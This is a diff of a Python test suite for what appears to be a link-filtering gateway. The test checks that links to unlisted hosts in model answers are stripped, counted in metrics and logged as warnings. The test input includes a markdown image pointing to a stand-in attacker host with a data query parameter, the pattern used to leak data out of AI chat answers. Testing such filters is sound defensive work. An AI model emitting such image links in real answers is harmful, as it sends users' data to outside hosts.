@@ -19,6 +19,7 @@ from gateway import Served
 from renderers import elsewhere, leads, rendered
 from test_audit import inside, query
 from test_serve import serve
+from waiting import wait_until
 
 SEED, TEXTS = 5, 10_000 if os.environ.get("TOKEN_SHIELD_FULL") else 1_000
 MARK = "⟨link removed⟩"
@@ -83,7 +84,7 @@ def test_the_renderers_would_show_it() -> None:
     assert len(led) > len(texts) / 2, len(led)
 
 
-def test_records_headers_and_metrics_say_it(gateway: Served) -> None:
+def test_records_headers_metrics_and_the_log_say_it(gateway: Served) -> None:
     token = gateway.issue("answers/told", models=("echo",))
     headers = {"authorization": f"Bearer {token}"}
     body = {"model": "echo", "messages": user("![a](https://x.evil.example/?d=1) [b](https://evil.example) https://good.example")}
@@ -98,6 +99,9 @@ def test_records_headers_and_metrics_say_it(gateway: Served) -> None:
         {"kind": "clicked", "reason": "not-listed", "target": "https://evil.example/", "verdict": "strip"},
     ] and outcome["led_count"] == 2
     assert gateway.metric("token_shield_egress_total", door="answer", verdict="strip", reason="not-listed") >= 2
+    request = answer.headers["token-shield-request"]
+    line = wait_until(lambda: gateway.line("uncontrolled destination", request=request), 10, "what was found is said in the log")
+    assert (line["level"], line["door"], line["host"], line["count"]) == ("WARN", "answer", "x.evil.example", 2)
 
 
 def test_a_class_may_refuse_such_answers_or_let_them_pass(gateway: Served) -> None:
